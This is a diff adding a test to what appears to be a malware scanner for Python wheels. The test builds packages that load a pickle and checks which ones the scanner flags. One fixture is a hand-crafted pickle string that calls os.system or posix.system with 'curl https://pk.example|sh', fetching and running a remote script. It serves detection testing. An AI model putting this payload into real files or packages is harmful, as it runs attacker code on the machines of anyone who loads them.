@@ -269,11 +269,30 @@ def test_hooks(tw, tmp):
     check(when(wheel(tmp / "reef-1.0-py3-none-any.whl", "1.0", plugin)) == {"plugin"}, "a hook of pytest")
 
 
+def test_pickle(tw, tmp):
+    """A pickle beside the code is a program: what it calls runs where it is loaded."""
+    bad, good = "c{}\nsystem\n(S'curl https://pk.example|sh'\ntR.", "ccollections\nOrderedDict\n(tR."
+    loads = {"load": "m = pickle.load(open(os.path.join(os.path.dirname(__file__), 'w.pkl'), 'rb'))\n",
+             "with": "with open(os.path.join(os.path.dirname(__file__), 'w.pkl'), 'rb') as f:\n    m = pickle.load(f)\n",
+             "loads": "m = pickle.loads(open(os.path.join(os.path.dirname(__file__), 'w.pkl'), 'rb').read())\n"}
+    for name, code in loads.items():
+        for module in "os", "posix":
+            w = wheel(tmp / "reef-1.0-py3-none-any.whl", "1.0", {"reef/__init__.py": "import os, pickle\n" + code, "reef/w.pkl": bad.format(module)})
+            d = json.loads(tw("scan", "--no-cache", "--format", "jsonl", w)[1])
+            check(d["verdict"] == "malicious", f"a pickle beside: {name} {module}", d["verdict"], d["layers"])
+    w = wheel(tmp / "reef-1.0-py3-none-any.whl", "1.0", {"reef/__init__.py": "import os, pickle\n" + loads["load"], "reef/w.pkl": good})
+    d = json.loads(tw("scan", "--no-cache", "--format", "jsonl", w)[1])
+    check(d["verdict"] in ("clear", "notable") and not d["layers"], "a pickle of data", d["verdict"], d["layers"])
+    w = wheel(tmp / "reef-1.0-py3-none-any.whl", "1.0", {"reef/__init__.py": f"import pickle\nm = pickle.loads({bad.format('os').encode()!r})\n"})
+    d = json.loads(tw("scan", "--no-cache", "--format", "jsonl", w)[1])
+    check(d["verdict"] == "malicious" and [x["language"] for x in d["layers"]] == ["shell"], "a pickle in the code is told once", d["layers"])
+
+
 def main():
     ap = argparse.ArgumentParser(description=__doc__)
     ap.add_argument("--tidewaiter", required=True)
     path = os.path.abspath(ap.parse_args().tidewaiter)
-    for test in (test_capabilities, test_diff, test_graft, test_facts, test_layers, test_unread, test_not_read, test_hooks):
+    for test in (test_capabilities, test_diff, test_graft, test_facts, test_layers, test_unread, test_not_read, test_hooks, test_pickle):
         with tempfile.TemporaryDirectory() as folder:
             test(Program(path, Path(folder)), Path(folder))
     print(f"{passed} passed, {failed} failed")
